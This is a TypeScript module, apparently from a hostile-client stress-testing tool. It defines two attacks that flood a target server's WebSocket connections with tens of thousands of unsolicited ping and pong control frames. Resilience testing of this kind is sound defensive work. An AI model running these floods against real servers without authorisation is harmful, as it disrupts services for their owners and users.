import type { HostileAttack } from '../hostileAttack.ts'
import { flood } from '../target.ts'
import { encodeFrame, keepWebSockets, OPCODE } from '../webSocket.ts'

/** Frames sent in one write. */
const FRAMES = 10_000
const CONNECTIONS = { full: 16, small: 8 }

function floodFrames(name: string, title: string, opcode: number): HostileAttack {
  return {
    name,
    title,
    connections: CONNECTIONS,
    begin(target, connections) {
      const frame = encodeFrame(opcode)
      const frames = Buffer.alloc(FRAMES * frame.length, frame)
      keepWebSockets(target, connections, ({ socket }) => flood(socket, frames))
    },
  }
}

export const controlFrames: readonly HostileAttack[] = [
  floodFrames('ws-pongs', 'WebSocket: unsolicited pongs', OPCODE.pong),
  floodFrames('ws-pings', 'WebSocket: pings', OPCODE.ping),
]
